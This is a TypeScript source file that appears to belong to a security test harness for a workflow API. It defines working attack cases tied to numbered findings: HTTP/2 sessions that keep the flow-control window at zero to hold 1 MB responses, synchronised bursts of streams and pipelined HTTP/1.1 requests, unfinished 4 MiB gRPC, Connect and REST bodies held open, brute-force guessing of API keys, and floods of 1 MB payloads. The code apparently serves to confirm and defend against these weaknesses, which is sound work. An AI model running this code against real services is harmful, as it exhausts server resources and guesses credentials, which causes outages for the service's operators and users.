// Findings 14, 15 and 16: bodies and keys; and of 13 the replies that need a key.

import { randomUUID } from "node:crypto";
import { once } from "node:events";
import type { Attack } from "../attack.ts";
import { type Attacker, grpcFrame } from "../attacker.ts";
import { holdBodies } from "../hold-bodies.ts";
import { callApi, publishLine } from "../tenants.ts";

const messageBytes = 4 * 1024 ** 2;
const unfinished = grpcFrame(Buffer.alloc(messageBytes - 100), messageBytes);

export const bodies: readonly Attack[] = [
  {
    id: "13d",
    title: "a response of 1 MB on 128 streams of HTTP/2 whose window stays shut, 50 connections",
    prepare: async ({ tenant, scale }) => {
      await publishLine(tenant, "large", [{ response: { data: "{{event.body}}" } }]);
      const headers = { linked_account_id: tenant.account, prefer: "wait=10" };
      const body = { s: "x".repeat(1_000_000) };
      const { execution_id } = await callApi(tenant, "POST", "/api/v1/workflow/large/execute", body, headers);
      return { id: String(execution_id), connections: Math.ceil(50 * scale) };
    },
    run: async (attacker) => {
      const { given, key, account } = attacker.options;
      const path = `/api/v1/execution/${given["id"]}/response`;
      await attacker.repeat(Number(given["connections"]), async () => {
        const session = attacker.connectHttp2();
        session.settings({ initialWindowSize: 0 });
        for (let stream = 0; stream < 128; stream += 1) {
          const request = session.request({ ":path": path, "x-api-key": key, linked_account_id: account });
          request.on("error", () => attacker.count("stream failed"));
          request.once("response", (head) => attacker.count(`stream ${head[":status"]}`));
        }
        await once(session, "close", { signal: attacker.signal });
      });
    },
  },
  {
    id: "13e",
    title: "128 streams on 50 open connections of HTTP/2, 8 ahead on 200 of HTTP/1.1, in one moment, again and again",
    isVolume: true,
    prepare: async ({ tenant }) => {
      await publishLine(tenant, "small", [{ response: { data: "1" } }]);
      const headers = { linked_account_id: tenant.account, prefer: "wait=10" };
      const { execution_id } = await callApi(tenant, "POST", "/api/v1/workflow/small/execute", {}, headers);
      return { id: String(execution_id) };
    },
    run: async (attacker) => {
      const moments = new Moments();
      const sessions = attacker.repeat(50, () => askAtOnce(attacker, moments));
      const sockets = attacker.repeat(200, () => pipelineAtOnce(attacker, moments));
      const beat = async () => {
        while (!attacker.isOver) {
          await attacker.pause(momentsMs);
          moments.come();
        }
      };
      await Promise.all([sessions, sockets, beat()]);
    },
  },
  {
    id: "14",
    title: "unfinished bodies of 4 MiB to ExecuteWorkflow with a good key, 4 connections with 128 streams each",
    prepare: async ({ scale }) => ({ streams: Math.ceil(128 * scale) }),
    run: (attacker) => leaveUnfinished(attacker, "/flowcall.v1.ExecutionService/ExecuteWorkflow", "application/grpc"),
  },
  {
    id: "14b",
    title: "the same over Connect and gRPC-Web, to a method that only reads",
    run: async (attacker) => {
      const path = "/flowcall.v1.WorkflowService/ValidateDefinition";
      await Promise.all(
        ["application/grpc-web", "application/proto"].map((type) => leaveUnfinished(attacker, path, type)),
      );
    },
  },
  {
    id: "14c",
    title: "unfinished bodies of 4 MB over HTTP/1.1 and REST, 500 connections",
    prepare: async ({ tenant }) => {
      await publishLine(tenant, "echo", [{ response: { data: "1" } }]);
      return {};
    },
    run: async (attacker) => {
      const { key, account } = attacker.options;
      const head = `POST /api/v1/workflow/echo/execute HTTP/1.1\r\nhost: a\r\nx-api-key: ${key}\r\nlinked_account_id: ${account}\r\ncontent-type: application/json\r\ncontent-length: 4000000\r\n\r\n`;
      await holdBodies(attacker, head);
    },
  },
  {
    id: "15",
    title: "keys that do not exist, all different, 1,000 requests at a time over 10 connections",
    isVolume: true,
    run: (attacker) => guessKeys(attacker, () => `tk${randomUUID()}`),
  },
  {
    id: "15b",
    title: "keys that are changed by a few characters of a good one",
    isVolume: true,
    run: (attacker) => {
      const { key } = attacker.options;
      const letters = "0123456789abcdefghijklmnopqrstuvwxyz";
      const letter = () => letters[Math.floor(Math.random() * letters.length)];
      return guessKeys(attacker, () => key.replace(/.{4}$/, () => `${letter()}${letter()}${letter()}${letter()}`));
    },
  },
  {
    id: "16",
    title: "1 MB of payload a call, 8 calls at a time with one key",
    isVolume: true,
    prepare: async ({ tenant }) => {
      await publishLine(tenant, "echo", [{ response: { data: "1" } }]);
      return {};
    },
    run: async (attacker) => {
      const body = JSON.stringify({ s: "x".repeat(1_040_000) });
      await attacker.repeat(8, async () => {
        const { status } = await attacker.callText("echo", body);
        if (status === 200) {
          attacker.count("MB", 1.04);
        }
      });
    },
  },
];

/** How far apart the moments are at which all connections are written to. */
const momentsMs = 2_000;

/** Moments for which many wait together. */
class Moments {
  #next = Promise.withResolvers<void>();

  async wait(attacker: Attacker): Promise<void> {
    await Promise.race([this.#next.promise, attacker.untilOver()]);
  }

  come(): void {
    this.#next.resolve();
    this.#next = Promise.withResolvers();
  }
}

/** Opens as many streams as it may at each moment, on a connection that stays. */
async function askAtOnce(attacker: Attacker, moments: Moments): Promise<void> {
  const { given, key, account } = attacker.options;
  const session = attacker.connectHttp2();
  const closed = once(session, "close");
  const ask = async () => {
    const path = `/api/v1/execution/${given["id"]}/response`;
    const request = session.request({ ":path": path, "x-api-key": key, linked_account_id: account });
    request.on("error", () => attacker.count("stream failed"));
    request.once("response", (head) => attacker.count(`stream ${head[":status"]}`));
    await once(request.resume(), "close");
  };
  while (!attacker.isOver && !session.destroyed) {
    await moments.wait(attacker);
    if (attacker.isOver) {
      return;
    }
    await Promise.race([Promise.all(Array.from({ length: 128 }, () => ask().catch(() => undefined))), closed]);
  }
}

/** The same by HTTP/1.1, where what is sent ahead is pipelined. */
async function pipelineAtOnce(attacker: Attacker, moments: Moments): Promise<void> {
  const { given, key, account } = attacker.options;
  const path = `/api/v1/execution/${given["id"]}/response`;
  const head = `GET ${path} HTTP/1.1\r\nhost: a\r\nx-api-key: ${key}\r\nlinked_account_id: ${account}\r\n\r\n`;
  const socket = attacker.connect();
  const closed = once(socket, "close");
  socket.on("data", (data: Buffer) => attacker.count("bytes answered", data.length));
  while (!attacker.isOver && !socket.destroyed) {
    await moments.wait(attacker);
    attacker.count("pipelined", 8);
    socket.write(head.repeat(8));
    await Promise.race([once(socket, "data"), closed]);
  }
}

async function leaveUnfinished(attacker: Attacker, path: string, type: string): Promise<void> {
  const { key, given } = attacker.options;
  const length = Number(given["streams"] ?? 128);
  await attacker.repeat(4, async () => {
    const session = attacker.connectHttp2();
    const streams = Array.from({ length }, async () => {
      const stream = attacker.openStream(session, path, { "x-api-key": key, "content-type": type }).resume();
      stream.write(type === "application/proto" ? Buffer.alloc(messageBytes - 100) : unfinished);
      attacker.count("bodies");
      if (!stream.closed) {
        await once(stream, "close");
      }
    });
    await Promise.race([Promise.all(streams), once(session, "close", { signal: attacker.signal })]);
    session.destroy();
    await attacker.pause(20);
  });
}

async function guessKeys(attacker: Attacker, guess: () => string): Promise<void> {
  await attacker.repeat(10, async () => {
    const session = attacker.connectHttp2();
    const ask = async () => {
      const stream = session.request({ ":path": "/api/v1/execution", "x-api-key": guess() });
      stream.on("error", () => attacker.count("stream failed"));
      stream.once("response", (head) => attacker.count(String(head[":status"])));
      stream.resume();
      await once(stream, "close");
    };
    const lane = async () => {
      while (!attacker.isOver && !session.destroyed) {
        await ask().catch(() => attacker.pause(20));
      }
    };
    await Promise.race([
      Promise.all(Array.from({ length: 100 }, lane)),
      once(session, "close", { signal: attacker.signal }),
    ]);
    session.destroy();
    await attacker.pause(20);
  });
}
